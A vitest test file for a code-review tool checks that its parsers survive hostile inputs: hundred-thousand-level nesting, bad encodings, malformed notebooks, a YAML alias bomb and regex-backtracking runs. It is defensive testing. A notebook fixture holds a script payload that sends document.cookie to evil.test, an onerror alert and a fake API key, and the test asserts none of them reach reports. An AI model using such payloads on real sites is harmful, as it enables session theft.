/**
 * Hostile cases, group "Parsers" (team spec hostile-cases.md), each through the whole review of a
 * mini-repository (test/helpers/review-files.ts's shape, under the hostile environment) plus the
 * invariants (test/helpers/hostile.ts). Unit-level neighbours: test/facts/config/parse-config.test.ts
 * (deep JSON/YAML/TOML, alias bombs), test/facts/notebook/read-notebook.test.ts,
 * test/facts/manifests/malformed-manifests.test.ts, test/review/hostile-repository.test.ts.
 * Random inputs are test/hostile/fuzz.test.ts.
 */
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { ClaimDocument } from '../../src/claims/types.js';
import { parseIssueLinks } from '../../src/source/parse-issue-links.js';
import { parseSource } from '../../src/source/parse-source.js';
import type { Evidence } from '../../src/types.js';
import { expectInvariants, hostileReview, type HostileReviewOptions, type ReviewRun } from '../helpers/hostile.js';

const DEEP = 100_000;

/** Writes `files` to a new folder, reviews it under the hostile environment, removes the folder. */
async function reviewHostileFiles(files: Record<string, string | Buffer>, options: HostileReviewOptions = {}): Promise<ReviewRun> {
  const root = await mkdtemp(join(tmpdir(), 'hostile-parsers-'));
  try {
    for (const [path, content] of Object.entries(files)) {
      await mkdir(dirname(join(root, path)), { recursive: true });
      await writeFile(join(root, path), content);
    }
    return await hostileReview(root, options);
  } finally {
    await rm(root, { recursive: true, force: true });
  }
}

const skipped = (run: ReviewRun) => Object.fromEntries(run.report!.target.skipped.map((s) => [s.path, s]));
const at = (evidence: Evidence | undefined) => evidence && `${evidence.path}:${evidence.line}${evidence.cell ? ` cell ${evidence.cell}` : ''}`;
const libraryAt = (run: ReviewRun, id: string) => at(run.report!.stack.libraries.find((l) => l.id === id)?.evidence[0]);
const modelAt = (run: ReviewRun, id: string) => at(run.report!.stack.models.find((m) => m.id === id)?.evidence[0]);
const notebook = (cells: unknown[], extra: Record<string, unknown> = {}) => JSON.stringify({ nbformat: 4, nbformat_minor: 5, metadata: {}, cells, ...extra });
const code = (source: string | string[], outputs: unknown[] = []) => ({ cell_type: 'code', metadata: {}, execution_count: 1, source, outputs });

describe('Parsers', () => {
  it('JSON/notebooks nested a hundred thousand levels deep: no stack overflow, the file is reported unparsable, the rest is reviewed', async () => {
    const deep = `${'['.repeat(DEEP)}${']'.repeat(DEEP)}`;
    const deepObject = `${'{"a":'.repeat(DEEP)}1${'}'.repeat(DEEP)}`;
    const run = await reviewHostileFiles({
      'app.py': 'import peft\n',
      'deep.json': deep,
      'deep_object.json': deepObject,
      'deep.ipynb': `{"cells": ${deep}}`,
      'deep_outputs.ipynb': `{"cells": [{"cell_type": "code", "source": "import torch\\n", "outputs": ${deep}}]}`,
      'deep.yaml': `a: ${'['.repeat(DEEP)}${']'.repeat(DEEP)}\n`,
      'deep.toml': `a = ${'['.repeat(DEEP)}${']'.repeat(DEEP)}\n`,
      'deep.py': `x = ${'('.repeat(20_000)}1${')'.repeat(20_000)}\nimport transformers\n`,
      'deep.ts': `const x = ${'['.repeat(20_000)}${']'.repeat(20_000)};\nimport OpenAI from 'openai';\n`,
    });
    const report = run.report!;
    for (const path of ['deep.json', 'deep_object.json', 'deep_outputs.ipynb', 'deep.yaml', 'deep.toml']) {
      expect(skipped(run)[path], path).toMatchObject({ reason: 'parse-error' });
      expect(skipped(run)[path]!.detail).not.toMatch(/[\r\n]/);
    }
    // A notebook whose cells are nested arrays has no code cell to read; one with deep outputs is unparsable.
    expect(skipped(run)['deep.ipynb']?.reason ?? 'read, no code cells').toMatch(/^(parse-error|read, no code cells)$/);
    expect(skipped(run)['deep_outputs.ipynb']?.detail).toBe('nested too deep to parse');
    expect(libraryAt(run, 'peft')).toBe('app.py:1');
    // Deep code parses (tree-sitter and TypeScript's parser do not recurse per level) or is reported; never fatal.
    expect(libraryAt(run, 'transformers') ?? skipped(run)['deep.py']?.reason).toBe('deep.py:2');
    expect(libraryAt(run, 'openai') ?? skipped(run)['deep.ts']?.reason).toMatch(/^(deep\.ts:2|parse-error)$/);
    expect(report.errors).toEqual([]);
    expectInvariants(run);
  });

  it('invalid UTF-8, UTF-16 with BOM, mixed line endings: decoded, and line numbers still right', async () => {
    const utf16 = (text: string, order: 'le' | 'be') => {
      const le = Buffer.from(text, 'utf16le');
      if (order === 'le') return Buffer.concat([Buffer.from([0xff, 0xfe]), le]);
      const be = Buffer.alloc(le.length);
      for (let i = 0; i < le.length; i += 2) [be[i], be[i + 1]] = [le[i + 1]!, le[i]!];
      return Buffer.concat([Buffer.from([0xfe, 0xff]), be]);
    };
    const run = await reviewHostileFiles({
      'latin.py': Buffer.concat([Buffer.from('# caf'), Buffer.from([0xe9, 0xc3, 0x28, 0xa0, 0xa1]), Buffer.from('\nimport torch\nname = "'), Buffer.from([0xff, 0xfe, 0x80]), Buffer.from('"\nMODEL = "distilbert-base-uncased"\n')]),
      'utf16le.py': utf16('import transformers\r\n\r\nMODEL_NAME = "gpt2"\r\n', 'le'),
      'utf16be.py': utf16('# note\nimport sentence_transformers\n', 'be'),
      'mixed.py': 'import peft\r\nx = 1\ry = 2\n\r\nLLM_MODEL = "mistralai/Mistral-7B-v0.1"\r\n',
      'cells.ipynb': notebook([code('x = 1\r\ny = 2\r\n'), code(['import chromadb\r\n', 'EMBED_MODEL = "BAAI/bge-small-en"\r\n'])]),
    });
    expect(libraryAt(run, 'torch')).toBe('latin.py:2');
    expect(modelAt(run, 'distilbert-base-uncased')).toBe('latin.py:4');
    expect(libraryAt(run, 'transformers')).toBe('utf16le.py:1');
    expect(modelAt(run, 'gpt2')).toBe('utf16le.py:3');
    expect(libraryAt(run, 'sentence-transformers')).toBe('utf16be.py:2');
    expect(libraryAt(run, 'peft')).toBe('mixed.py:1');
    expect(modelAt(run, 'mistralai/Mistral-7B-v0.1')).toBe('mixed.py:5');
    expect(libraryAt(run, 'chroma') ?? at(run.report!.stack.vectorStores[0]?.evidence[0])).toBe('cells.ipynb:3 cell 2');
    expect(modelAt(run, 'BAAI/bge-small-en')).toBe('cells.ipynb:4 cell 2');
    expect(run.report!.target.skipped).toEqual([]);
    expectInvariants(run);
  });

  it('a notebook with wrong types, huge base64 outputs, HTML outputs with script, ten thousand cells: only code-cell sources are read, outputs never reach a report', async () => {
    const marker = 'QkFTRTY0TUFSS0VS';
    const base64 = `${marker}${'A'.repeat(6 * 1024 * 1024)}`;
    const html = '<script>fetch("https://evil.test/?c="+document.cookie)</script><img src=x onerror=alert(1)>';
    const outputs = [
      { output_type: 'display_data', metadata: {}, data: { 'image/png': base64, 'text/html': [html] } },
      { output_type: 'stream', name: 'stdout', text: ['import deepspeed\n', 'OPENAI_API_KEY=sk-proj-0123456789abcdefghijklmnopqrstuvwxyzABCDEFGH\n'] },
      { output_type: 'execute_result', metadata: {}, execution_count: 1, data: { 'text/plain': 'from trl import SFTTrainer' } },
    ];
    const wrongTypes = [
      null, 'cell', 42, [], { cell_type: 5 }, { cell_type: 'code', source: 42 }, { cell_type: 'code', source: [1, 2, { a: 1 }] },
      { cell_type: 'code', source: { text: 'import os' } }, { cell_type: 'code', source: 'import peft\n', outputs: 'not a list' },
      { cell_type: 'markdown', source: 'import vllm  # prose, not code' }, { cell_type: 'raw', source: 'import langchain' },
    ];
    const many = Array.from({ length: 10_000 }, (_, i) => code(`x${i} = ${i}\n`));
    many[9_998] = code('from transformers import AutoModel\nmodel = AutoModel.from_pretrained("bert-base-uncased")\n', outputs);
    const started = performance.now();
    const run = await reviewHostileFiles({
      'wrong_types.ipynb': notebook(wrongTypes, { metadata: [], nbformat: 'four' }),
      'outputs.ipynb': notebook([code('import torch\n', outputs)]),
      'many.ipynb': notebook(many),
    });
    expect(performance.now() - started).toBeLessThan(20_000);
    const report = run.report!;
    expect(report.target.skipped).toEqual([]);
    expect(libraryAt(run, 'peft')).toBe('wrong_types.ipynb:1 cell 9');
    expect(libraryAt(run, 'torch')).toBe('outputs.ipynb:1 cell 1');
    // Line numbers count through the 9,998 one-line code cells before it.
    expect(libraryAt(run, 'transformers')).toBe('many.ipynb:9999 cell 9999');
    expect(modelAt(run, 'bert-base-uncased')).toBe('many.ipynb:10000 cell 9999');
    // Nothing from outputs, markdown or raw cells: no libraries, no secret, no HTML, no base64.
    const ids = report.stack.libraries.map((l) => l.id);
    for (const id of ['deepspeed', 'trl', 'vllm', 'langchain']) expect(ids).not.toContain(id);
    expect(report.stack.secrets).toEqual([]);
    for (const text of [run.json, run.markdown]) {
      expect(text).not.toContain(marker);
      expect(text).not.toMatch(/<script|onerror|evil\.test|sk-proj-/i);
    }
    expectInvariants(run);
  });

  describe('inputs that make a naive regex backtrack for seconds: every heuristic regex runs in linear time', () => {
    /** Runs of the characters heuristic regexes look for, each 20,000 long and ending in a mismatch. */
    const RUNS = [' ', '\t', 'a', '0', '=', '"', "'", '#', '-', '/', '\\', ':', '.', '_', '(', '[', '{', '<', '@', '*', 'a ', 'a=', 'a.', '- ', '# ', '((', '"a', 'http://', 'github.com/', '`', '|', '!', '$', 'x,', 'TODO ', 'import ', 'model=', '--model ', '::', ' #'];
    const runsOf = (length: number) => RUNS.map((run) => `${run.repeat(Math.ceil(length / run.length))}\u0001!`);
    const lines = runsOf(20_000);
    const body = `${lines.join('\n')}\n`;
    /** Each file kind reads the runs where its heuristics do: raw lines, comments, a notebook's cells. */
    const KINDS: Record<string, Record<string, string>> = {
      'a launch script': { 'scripts/train.sh': body },
      'a README (claims and sections)': { 'README.md': body },
      'a requirements file': { 'requirements.txt': body },
      'a Dockerfile': { Dockerfile: lines.map((l) => `RUN ${l}`).join('\n') },
      'a .env file and setup.cfg': { '.env.example': body, 'setup.cfg': `[options]\ninstall_requires =\n${lines.map((l) => `    ${l}`).join('\n')}\n` },
      'Python comments and strings': { 'app.py': lines.map((l) => `# ${l}\nS = r'''${l.replace(/'/g, '')}'''`).join('\n') },
      'TypeScript comments': { 'app.ts': lines.map((l) => `// ${l}`).join('\n') },
      'a notebook': { 'nb.ipynb': notebook([code(lines.map((l) => `# ${l}`).join('\n')), { cell_type: 'markdown', metadata: {}, source: body }]) },
      'YAML and TOML values': {
        'config.yaml': lines.map((l, i) => `k${i}: ${JSON.stringify(l.slice(0, 5_000))}`).join('\n'),
        'pyproject.toml': `[project]\nname = "x"\ndependencies = [\n${lines.map((l) => `  ${JSON.stringify(l)},`).join('\n')}\n]\n`,
      },
    };
    // src/stack/detect-quantization.ts once stripped trailing quotes from every word of a launch
    // command with `/["',\]]+$/`: seconds on a run of 20,000 quotes. These two cases caught it.
    for (const kind of Object.keys(KINDS)) {
      it(kind, async () => {
        const claims: ClaimDocument[] = [{ origin: 'pull-request', path: 'PR #1', text: body }];
        const run = await reviewHostileFiles(KINDS[kind]!, { claimDocuments: claims });
        // The stages after parsing are heuristics over facts: linear work on ~800 KB is milliseconds
        // there, one quadratic regex on a 20,000-character run is seconds. Parsing itself gets more room.
        const { facts, workspace, ...heuristics } = run.report!.target.timings;
        expect(facts, 'facts').toBeLessThan(5_000);
        for (const [stage, ms] of Object.entries(heuristics)) expect(ms, stage).toBeLessThan(1_500);
        expect(run.report!.errors).toEqual([]);
        expectInvariants(run);
      });
    }

    it('an issue body and the URL validator', () => {
      const started = performance.now();
      parseIssueLinks(body, { host: 'github.com' });
      for (const line of lines) {
        try {
          parseSource(`https://github.com/${line}`, { cwd: '/', allowLocal: false });
        } catch {
          // refused, as it should be: only the time matters here
        }
      }
      expect(performance.now() - started).toBeLessThan(1_000);
    });
  });

  it('a parser that throws on one file: that file is reported, the review completes', async () => {
    const run = await reviewHostileFiles({
      'app.py': 'import peft\n',
      'broken.ipynb': '{"cells": [ {"cell_type": "code", "source": ["import torch"',
      'not_a_notebook.ipynb': '[1, 2, 3]',
      'broken.json': '{"model": "gpt2",, }',
      'broken.toml': '[project\nname = "x"\n',
      'aliases.yaml': `a: &a ["x","x","x","x","x","x","x","x","x"]\n${Array.from({ length: 12 }, (_, i) => `${String.fromCharCode(98 + i)}: &${String.fromCharCode(98 + i)} [${Array(9).fill(`*${String.fromCharCode(97 + i)}`).join(',')}]`).join('\n')}\n`,
      'pyproject.toml': '[project]\ndependencies = "not a list"\n',
      'package.json': '{"dependencies": ["not", "an", "object"], "scripts": 5}',
      'too_deep.ts': `export const x = ${'('.repeat(50_000)}1${')'.repeat(50_000)};\n`,
    });
    const report = run.report!;
    for (const path of ['broken.ipynb', 'not_a_notebook.ipynb', 'broken.json', 'broken.toml', 'aliases.yaml']) {
      expect(skipped(run)[path], path).toMatchObject({ reason: 'parse-error' });
      expect(skipped(run)[path]!.detail!.length).toBeLessThanOrEqual(200);
    }
    expect(libraryAt(run, 'peft')).toBe('app.py:1');
    expect(report.target.files).toBe(9 - report.target.skipped.filter((s) => s.reason === 'parse-error').length);
    expect(run.markdown).toContain('broken.ipynb');
    expectInvariants(run);
  });
});
